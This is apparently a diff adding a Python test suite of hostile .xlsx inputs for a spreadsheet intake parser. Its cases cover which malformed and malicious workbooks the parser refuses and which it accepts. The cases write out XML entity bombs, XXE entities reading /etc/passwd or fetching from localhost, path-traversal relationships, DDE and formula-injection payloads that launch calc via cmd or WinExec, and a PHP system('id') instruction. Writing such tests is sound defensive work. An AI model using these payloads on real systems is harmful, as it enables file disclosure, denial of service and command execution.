@@ -1,0 +1,349 @@
+"""Parts of an .xlsx that lie: XML that explodes, cells where there are none, indices of nothing, links to elsewhere."""
+
+from collections.abc import Callable
+from functools import partial
+
+from customs.intake import Reading
+from tests.hostile.case import Case, refused, taken
+from tests.hostile.parts import (
+    HEADS,
+    LINES,
+    MAIN,
+    SHEET,
+    STRICT,
+    WORKBOOK,
+    XML,
+    beside,
+    book,
+    cell,
+    parts,
+    relations,
+    row,
+    rows,
+    shared,
+    sheet,
+    styles,
+    workbook,
+    zipped,
+)
+
+DAMAGED, DOCTYPE, BOMB, WIDE, EMPTY = "FILE-DAMAGED", "FILE-DOCTYPE", "FILE-BOMB", "FILE-TOO-WIDE", "FILE-EMPTY"
+HEAVY = "FILE-TOO-HEAVY"
+LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
+QUADRATIC = f"<!DOCTYPE x [<!ENTITY a '{'x' * 50_000}'>]>"
+EXTERNAL = "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"
+PARAMETER = "<!DOCTYPE x [<!ENTITY % a SYSTEM 'http://127.0.0.1:9/x'> %a;]>"
+
+Make = Callable[[], bytes]
+
+
+def with_cell(xml: str, *, more: str = "", **changed: str) -> Make:
+    """The third line is one with this XML as its quantity."""
+    line = row(4, ("TA-402", "Vải dệt kim rib", "60063290", "CN")) + more
+    return lambda: book(sheet=sheet(rows(*LINES) + line.replace("</row>", f"{xml}</row>", 1)), **changed)
+
+
+def value(stored: str, attributes: str = "") -> Make:
+    return with_cell(f'<c r="E4"{attributes}><v>{stored}</v></c>')
+
+
+def with_rows(xml: str) -> Make:
+    return lambda: book(sheet=sheet(rows(*LINES) + xml))
+
+
+def holds(text: str) -> Callable[[Reading], None]:
+    """Somewhere in the sheets as they are shown."""
+
+    def look(reading: Reading) -> None:
+        assert any(text in held for one in reading.sheets for cells in one.cells.columns for held in cells.texts)
+
+    return look
+
+
+def holds_no(text: str) -> Callable[[Reading], None]:
+    def look(reading: Reading) -> None:
+        assert not any(text in held for one in reading.sheets for cells in one.cells.columns for held in cells.texts)
+
+    return look
+
+
+def reads(kind: str, text: str) -> Callable[[Reading], None]:
+    """Cell E4 is of that kind and text."""
+
+    def look(reading: Reading) -> None:
+        found = reading.sheets[0].cells.cell(4, 4)
+        assert (found.kind, found.text) == (kind, text)
+
+    return look
+
+
+def doctype(part: str, text: str) -> Make:
+    def make() -> bytes:
+        own = parts()
+        own[part] = own[part].replace(b"\n", f"\n{text}".encode(), 1)
+        return zipped(own)
+
+    return make
+
+
+def encoded(part: str, codec: str, declared: str = "UTF-8") -> Make:
+    def make() -> bytes:
+        own = parts()
+        own[part] = own[part].decode().replace("UTF-8", declared, 1).encode(codec)
+        return zipped(own)
+
+    return make
+
+
+def hidden_doctype() -> bytes:
+    """The declaration is ASCII, what follows is written in EBCDIC: whoever looks for a DOCTYPE by its letters is blind."""
+    own = parts()
+    head = b'<?xml version="1.0" encoding="cp037"?>'
+    own[WORKBOOK] = head + (LAUGHS + "]>" + workbook("&a9;").partition("\n")[2]).encode("cp037")
+    return zipped(own)
+
+
+def many_sheets(count: int, body: str) -> bytes:
+    """As many names for one part."""
+    named = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, count + 1))
+    return book(workbook=workbook(named), sheet=sheet(body))
+
+
+def far_apart(count: int) -> bytes:
+    """Sheets that are small as files and large as grids: each has a cell in its first and in its last place."""
+    body = row(1, HEADS) + '<row r="400000"><c r="T400000"><v>1</v></c></row>'
+    names = range(1, count + 1)
+    own = {f"xl/worksheets/s{n}.xml": sheet(body) for n in names}
+    links = relations(*((f"r{n}", "worksheet", f"worksheets/s{n}.xml") for n in names))
+    named = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="r{n}"/>' for n in names)
+    return beside({**own, WORKBOOK: workbook(named), "xl/_rels/workbook.xml.rels": links})
+
+
+def one_text_everywhere() -> bytes:
+    """A text of 30,000 characters, stored once and shown twenty thousand times."""
+    body = "".join(
+        f'<row r="{n}">' + "".join(f'<c r="{letter}{n}" t="s"><v>0</v></c>' for letter in "ABCDEFGHIJ") + "</row>"
+        for n in range(1, 2_001)
+    )
+    return book(sheet=sheet(body), shared=shared("x" * 30_000))
+
+
+def _xml() -> tuple[Case, ...]:
+    nested = "<a>" * 100_000 + "</a>" * 100_000
+    told = [
+        (WORKBOOK, "the list of sheets"), (SHEET, "a sheet"), ("xl/sharedStrings.xml", "shared strings"),
+        ("xl/styles.xml", "styles"), ("xl/_rels/workbook.xml.rels", "relations"), ("[Content_Types].xml", "kinds"),
+    ]  # fmt: skip
+    return (
+        *(refused(f"billion laughs in {name}", doctype(part, LAUGHS + "]>"), DOCTYPE) for part, name in told),
+        refused("a large entity again and again", doctype(SHEET, QUADRATIC), DOCTYPE),
+        refused("an entity from a file", doctype(SHEET, EXTERNAL), DOCTYPE),
+        refused("a parameter entity from the network", doctype(WORKBOOK, PARAMETER), DOCTYPE),
+        refused("a DOCTYPE of nothing", doctype("xl/styles.xml", "<!DOCTYPE x>"), DOCTYPE),
+        refused("a DOCTYPE behind a megabyte of blanks", doctype(SHEET, " " * ((1 << 20) - 60) + EXTERNAL), DOCTYPE),
+        refused("a DOCTYPE in properties", lambda: beside({"docProps/core.xml": XML + EXTERNAL + "<a/>"}), DOCTYPE),
+        refused("a DOCTYPE in letters of another kind", hidden_doctype, DAMAGED),
+        refused("a sheet in UTF-16", encoded(SHEET, "utf-16"), DAMAGED),
+        refused("a sheet in UTF-16 without mark", encoded(SHEET, "utf-16-le"), DAMAGED),
+        refused("a sheet in UTF-32", encoded(SHEET, "utf-32"), DAMAGED),
+        refused("a list of sheets in UTF-16", encoded(WORKBOOK, "utf-16", "UTF-16"), DAMAGED),
+        refused("a sheet that says it is UTF-7", encoded(SHEET, "utf-7", "UTF-7"), DAMAGED),
+        taken("a sheet with a mark of UTF-8", encoded(SHEET, "utf-8-sig")),
+        refused("a sheet with broken UTF-8", lambda: book(sheet=sheet().encode().replace(b"TA-400", b"TA\xff400")), DAMAGED),
+        refused("a sheet of rubbish", lambda: book(sheet="rubbish"), DAMAGED, EMPTY),
+        refused("an empty sheet part", lambda: book(sheet=""), DAMAGED, EMPTY),
+        taken("a sheet whose rows do not close", lambda: book(sheet=sheet().replace("</row>", ""))),
+        refused("a sheet that ends in a tag", lambda: book(sheet=sheet()[:700]), DAMAGED),
+        refused("tags that never close", with_rows("<c " * 200_000), DAMAGED),
+        refused("rows that never close", with_rows("<row " * 200_000), DAMAGED),
+        refused("formulas that never close", with_rows('<row r="4"><c r="A4"><f>' * 100_000), DAMAGED),
+        refused("a list of sheets that breaks off", lambda: book(workbook=workbook()[:-20]), DAMAGED),
+        refused("styles that break off", lambda: book(styles=styles()[:-20]), DAMAGED),
+        taken("a hundred thousand levels in a sheet", with_rows(nested)),
+        refused("a hundred thousand levels in the list of sheets", lambda: book(workbook=workbook(more=nested)), DAMAGED),
+        refused("a hundred thousand levels in styles", lambda: book(styles=styles(cells=nested)), DAMAGED),
+        taken("an attribute of 16 MiB", with_cell(f'<c r="E4" x="{"a" * (16 << 20)}"><v>5</v></c>'), 3),
+        taken("a hundred thousand attributes", with_cell('<c r="E4" ' + " ".join(f'a{n}=""' for n in range(100_000)) + "><v>5</v></c>"), 3),
+        taken("a comment of 16 MiB", with_rows(f"<!--{'a' * (16 << 20)}-->")),
+        taken("rows in a comment", with_rows(f"<!--{row(4, LINES[0])}-->"), 2),
+        taken("an instruction to a program", lambda: book(sheet=sheet(head=XML + "<?php system('id') ?>"))),
+        taken("values in CDATA", with_cell('<c r="E4"><v><![CDATA[5]]></v></c>'), 3),
+        refused("entities nobody declared", with_cell('<c r="E4" t="str"><v>&boom;</v></c>'), DAMAGED),
+        taken("a NUL in a text", lambda: book(sheet=sheet().encode().replace(b"TA-400", b"TA\x00400"))),
+        refused("a sign XML has no place for", with_cell('<c r="E4" t="str"><v>&#0;</v></c>'), DAMAGED),
+        taken("a NUL written as Excel writes signs", with_cell('<c r="E4" t="str"><v>a_x0000_b</v></c>'), None, look=holds_no("\0")),
+    )  # fmt: skip
+
+
+def _places() -> tuple[Case, ...]:
+    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
+    return (
+        taken("dimensions of the whole world", lambda: book(sheet=sheet(before='<dimension ref="A1:XFD1048576"/>'))),
+        taken("dimensions smaller than the sheet", lambda: book(sheet=sheet(before='<dimension ref="A1:B2"/>'))),
+        refused("dimensions of nonsense", lambda: book(sheet=sheet(before='<dimension ref="ZZZZ0:-1"/>')), DAMAGED),
+        refused("a cell at the end of the world", with_rows(far), WIDE, HEAVY),
+        refused("a cell far below", with_rows('<row r="1000000"><c r="A1000000"><v>1</v></c></row>'), WIDE),
+        refused("a row beyond the last", with_rows('<row r="1048577"><c r="A1048577"><v>1</v></c></row>'), WIDE, DAMAGED),
+        refused("a row of twenty digits", with_rows(f'<row r="{"9" * 20}"><c r="A{"9" * 20}"><v>1</v></c></row>'), DAMAGED),
+        refused("a row of 4 billion", with_rows('<row r="4294967295"><c r="A4294967295"><v>1</v></c></row>'), DAMAGED, WIDE, HEAVY),
+        refused("row 0", with_rows('<row r="0"><c r="A0"><v>1</v></c></row>'), DAMAGED),
+        refused("row -1", with_rows('<row r="-1"><c r="A-1"><v>1</v></c></row>'), DAMAGED),
+        refused("row 1.5", with_rows('<row r="1.5"><c r="A1.5"><v>1</v></c></row>'), DAMAGED),
+        refused("a reference without a row", with_cell('<c r="E"><v>5</v></c>'), DAMAGED),
+        refused("a reference without a column", with_cell('<c r="4"><v>5</v></c>'), DAMAGED),
+        refused("a reference of nothing", with_cell('<c r=""><v>5</v></c>'), DAMAGED),
+        refused("a column beyond the last", with_cell('<c r="XFE4"><v>5</v></c>'), DAMAGED, WIDE),
+        refused("a column of six letters", with_cell('<c r="ZZZZZZ4"><v>5</v></c>'), DAMAGED, WIDE, HEAVY),
+        refused("a row twice", with_rows(row(3, LINES[0])), DAMAGED),
+        refused("a cell twice", with_cell('<c r="E4"><v>5</v></c><c r="E4"><v>999</v></c>'), DAMAGED),
+        refused("a cell of another row", with_cell('<c r="E2"><v>999</v></c>'), DAMAGED),
+        taken("rows in the wrong order", lambda: book(sheet=sheet(row(3, LINES[1]) + row(2, LINES[0]) + row(1, HEADS)))),
+        taken("rows and cells without references", lambda: book(sheet=sheet(rows(*LINES).replace(' r="', ' x="')))),
+        taken("a hundred thousand empty rows", with_rows("".join(f'<row r="{n}"/>' for n in range(4, 100_000)))),
+        taken("a merged range of the whole sheet", lambda: book(sheet=sheet(after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')), None),
+        refused("merged ranges of nonsense", lambda: book(sheet=sheet(after='<mergeCells><mergeCell ref="B9:A1"/><mergeCell ref="A0"/><mergeCell/></mergeCells>')), DAMAGED),
+        taken("fifty thousand merged ranges", lambda: book(sheet=sheet(after="<mergeCells>" + "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(4, 50_000)) + "</mergeCells>"))),
+        taken("two thousand columns", lambda: book(sheet=sheet(row(1, HEADS) + '<row r="2"><c r="BZZ2"><v>1</v></c></row>')), None),
+        refused("three sheets that are vast and empty", lambda: far_apart(3), HEAVY, grows=200),
+        refused("ten thousand names for one sheet", lambda: many_sheets(10_000, rows(*LINES * 20)), WIDE, BOMB, DAMAGED),
+        refused("one long text in twenty thousand cells", one_text_everywhere, HEAVY),
+    )  # fmt: skip
+
+
+def _values() -> tuple[Case, ...]:
+    def big(number: str) -> str:
+        return " s=" + f'"{number}"'
+
+    return (
+        refused("a text index beyond the last", with_cell('<c r="E4" t="s"><v>7</v></c>'), DAMAGED),
+        taken("a text index below the first", with_cell('<c r="E4" t="s"><v>-1</v></c>'), 3, "INT-002"),
+        taken("a text index of words", with_cell('<c r="E4" t="s"><v>x</v></c>'), 3, "INT-002"),
+        taken("a text index of 2^64", with_cell('<c r="E4" t="s"><v>18446744073709551616</v></c>'), 3, "INT-002"),
+        refused("counts of texts that lie", lambda: book(shared=shared("a", told='count="4000000000" uniqueCount="4000000000"')), HEAVY, DAMAGED),
+        refused("no shared strings where some are named", with_cell('<c r="E4" t="s"><v>0</v></c>', shared="<sst/>"), DAMAGED),
+        taken("a style beyond the last", value("5", big("99999")), 3),
+        taken("a style of words", value("5", big("x")), 3),
+        taken("a number format of a million signs", with_cell('<c r="E4" s="1"><v>5</v></c>', styles=styles("0" * 1_000_000)), None),
+        taken("a number format of open quotes", with_cell('<c r="E4" s="1"><v>5</v></c>', styles=styles('"[\\' * 100_000)), None),
+        taken("a thousand digits", value("9" * 1000), None),
+        taken("ten thousand digits", value("9" * 10_000), None),
+        taken("twenty digits", value("12345678901234567890"), 3, "INT-026"),
+        taken("1e400", value("1e400"), None),
+        taken("-1e400", value("-1e400"), None),
+        taken("1e308", value("1e308"), None),
+        taken("1e-320", value("1e-320"), None),
+        taken("not a number", value("NaN"), None),
+        taken("infinity", value("inf"), None),
+        taken("minus zero", value("-0"), 3, look=reads("n", "0")),
+        taken("a hexadecimal number", value("0x10"), None),
+        taken("digits with underscores", value("1_000"), None),
+        taken("Arabic digits", value("١٠٠"), None),
+        taken("a number that is a formula", value("=1+1"), None),
+        taken("no number at all", value(""), None),
+        refused("a truth of two", value("2", ' t="b"'), DAMAGED),
+        refused("a cell of an unknown kind", value("5", ' t="zzz"'), DAMAGED),
+        refused("an error nobody knows", value("#BOOM!", ' t="e"'), DAMAGED),
+        taken("a day of 9999", value("2958465", big("1")), None),
+        *(
+            taken(f"day {number}", with_cell(f'<c r="E4" s="1"><v>{number}</v></c>', styles=styles("dd/mm/yyyy")), None)
+            for number in ("0", "60", "-1", "2958466", "1e10", "1e300", "NaN", "-99999999")
+        ),
+        *(
+            taken(f"date {text}", value(text, ' t="d"'), None)
+            for text in ("9999-99-99", "0000-00-00", "-0001-01-01", "2026-02-30T99:99:99", "")
+        ),
+        taken("a text of 40,000 characters", with_cell(cell("E4", "x" * 40_000)), None, "INT-046"),
+        taken("a text of 2 MiB", with_cell(cell("J4", "Vải " * 500_000)), None, "INT-046"),
+        taken("a name of 16 MiB", with_cell(f'<c r="E4" t="str"><v>{"a" * (16 << 20)}</v></c>'), None, "INT-046"),
+        taken("a million blanks", with_cell(cell("E4", " " * 30_000 + "5" + " " * 30_000)), None),
+        taken("brackets without end", with_cell(cell("E4", "[[" * 15_000)), None),
+        taken("digits and commas without end", with_cell(cell("E4", "1,1." * 8_000)), None),
+        taken("signs nobody sees", with_cell(cell("J4", "Vải\u200b \u202exslx.exe\u2066 \ufeff")), None, "INT-025", look=holds_no("\u202e")),
+        taken("accents apart from their letters", with_cell(cell("J4", "Va\u0309i de\u0323\u0302t")), None),
+        taken("a letter with ten thousand accents", with_cell(cell("J4", "a" + "\u0301" * 10_000)), None),
+        taken("a sign beyond all planes", with_cell('<c r="E4" t="str"><v>&#x10FFFF;</v></c>'), None),
+    )  # fmt: skip
+
+
+def _wholes() -> tuple[Case, ...]:
+    def leading(*targets: tuple[str, str, str], more: str = "") -> Make:
+        return lambda: book(rels=relations(*targets, more=more))
+
+    formula = "<f>{}</f><v>0</v>"
+    acts = {
+        "cmd": "cmd|'/c calc.exe'!A0", "msexcel": "MSEXCEL|'\\..\\..\\calc.exe'!''",
+        "web": 'WEBSERVICE("http://127.0.0.1:9/"&amp;A1)', "link": 'HYPERLINK("http://127.0.0.1:9/","x")',
+        "macro": 'CALL("kernel32","WinExec","JCJ","calc",0)',
+    }  # fmt: skip
+    kinds = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
+    return (
+        taken("strict beside transitional", lambda: book(sheet=sheet(space=STRICT))),
+        taken("relations of the strict kind only", lambda: book(rels=parts()["xl/_rels/workbook.xml.rels"].replace(b"http://schemas.openxmlformats.org/officeDocument/2006/relationships", b"http://purl.oclc.org/ooxml/officeDocument/relationships")), None),
+        taken("kinds that lie", lambda: book(types=parts()["[Content_Types].xml"].replace(b"worksheet+xml", b"styles+xml"))),
+        taken("no kinds", lambda: book(types=None)),
+        refused("no relations on top", lambda: book(top=None), DAMAGED),
+        refused("no list of sheets", lambda: book(workbook=None), "FILE-NOT-WORKBOOK"),
+        refused("no relations of the workbook", lambda: book(rels=None), DAMAGED, EMPTY),
+        refused("no sheet", lambda: book(sheet=None), DAMAGED, EMPTY),
+        taken("no styles", lambda: book(styles=None)),
+        refused("a workbook without sheets", lambda: book(workbook=workbook("")), EMPTY, DAMAGED),
+        refused("a sheet from the network", leading(("rId1", "worksheet", "http://127.0.0.1:9/sheet.xml"), more=' TargetMode="External"'), DAMAGED, EMPTY),
+        refused("a sheet from the disk", leading(("rId1", "worksheet", "file:///etc/passwd")), DAMAGED, EMPTY),
+        refused("a sheet that climbs out", leading(("rId1", "worksheet", "../../../../etc/passwd")), DAMAGED, EMPTY),
+        refused("a sheet that is the workbook", leading(("rId1", "worksheet", "workbook.xml")), DAMAGED, EMPTY),
+        taken("relations in a circle", lambda: beside({"xl/worksheets/_rels/sheet1.xml.rels": relations(("rId1", "worksheet", "../workbook.xml"), ("rId2", "comments", "sheet1.xml"))})),
+        taken("comments that break off", lambda: beside({"xl/worksheets/_rels/sheet1.xml.rels": relations(("rId1", "comments", "../comments1.xml")), "xl/comments1.xml": "<comments><a>"})),
+        taken("comments that are not there", lambda: beside({"xl/worksheets/_rels/sheet1.xml.rels": relations(("rId1", "comments", "../comments9.xml"))})),
+        taken("relations of a sheet that break off", lambda: beside({"xl/worksheets/_rels/sheet1.xml.rels": "<Relationships><"})),
+        refused("relations on top that break off", lambda: book(top="<Relationships><"), DAMAGED),
+        taken("kinds that break off", lambda: book(types="<Types><")),
+        refused("a relation twice", leading(("rId1", "worksheet", "worksheets/sheet1.xml"), ("rId1", "worksheet", "styles.xml")), DAMAGED, EMPTY),
+        taken("macros under the name of a workbook", lambda: beside({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 200, "[Content_Types].xml": parts()["[Content_Types].xml"].replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", kinds.encode())})),
+        taken("macros", lambda: beside({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 200}), file="invoice.xlsm"),
+        taken("an embedded program", lambda: beside({"xl/embeddings/oleObject1.bin": b"MZ" * 2000})),
+        taken("controls", lambda: beside({"xl/activeX/activeX1.xml": "<ax:ocx xmlns:ax='x'/>", "xl/activeX/activeX1.bin": b"\0" * 99})),
+        taken("links to other workbooks", lambda: beside({"xl/externalLinks/externalLink1.xml": f"<externalLink xmlns='{MAIN}'><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"})),
+        taken("connections to the network", lambda: beside({"xl/connections.xml": f"<connections xmlns='{MAIN}'><connection id='1' url='http://127.0.0.1:9'/></connections>"})),
+        *(taken(f"a formula that acts: {name}", with_cell(f'<c r="E4">{formula.format(text)}</c>'), None, look=holds_no("calc")) for name, text in acts.items()),
+        taken("a shared formula of the whole sheet", with_cell('<c r="E4"><f t="shared" ref="A1:XFD1048576" si="0">A1</f><v>5</v></c>'), 3),
+        taken("sheet names like formulas and markup", lambda: book(workbook=workbook('<sheet name="=1+1&lt;b&gt;" sheetId="1" r:id="rId1"/>'))),
+        taken("a sheet name of 300 signs", lambda: book(workbook=workbook(f'<sheet name="{"x" * 300}" sheetId="1" r:id="rId1"/>'))),
+        taken("a sheet without a name", lambda: book(workbook=workbook('<sheet name="" sheetId="1" r:id="rId1"/>'))),
+        refused("two names for one sheet", lambda: many_sheets(2, rows(*LINES)), DAMAGED),
+        taken("a sheet with a number of words", lambda: book(workbook=workbook('<sheet name="A" sheetId="x" r:id="rId1"/>'))),
+        taken("the 1904 calendar of nonsense", lambda: book(workbook=workbook(more='<workbookPr date1904="maybe"/>')), None),
+    )  # fmt: skip
+
+
+LIKE_FORMULAS = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "=cmd|'/c calc'!A0",
+    "%0A-3+3+cmd|' /C calc'!D2",
+)
+
+
+def _texts() -> tuple[Case, ...]:
+    def heads(text: str) -> bytes:
+        return book(sheet=sheet(row(1, (*HEADS, text)) + row(2, (*LINES[0], "x")) + row(3, (*LINES[1], "y"))))
+
+    def lines(text: str) -> bytes:
+        return book(sheet=sheet(rows(*((text, text, *line[2:]) for line in LINES))))
+
+    def stored(text: str) -> bytes:
+        body = rows(LINES[0]) + row(3, LINES[1]).replace(cell("A3", "TA-401"), '<c r="A3" t="s"><v>0</v></c>')
+        return book(sheet=sheet(body), shared=shared(text))
+
+    return (
+        *(taken(f"a heading that begins like a formula: {text!r}", partial(heads, text)) for text in LIKE_FORMULAS),
+        *(taken(f"texts that begin like a formula: {text!r}", partial(lines, text), look=holds(text.strip("\t\r"))) for text in LIKE_FORMULAS),
+        *(taken(f"a shared text that begins like a formula: {text!r}", partial(stored, text)) for text in LIKE_FORMULAS),
+    )  # fmt: skip
+
+
+CASES: tuple[Case, ...] = (*_xml(), *_places(), *_values(), *_wholes(), *_texts())
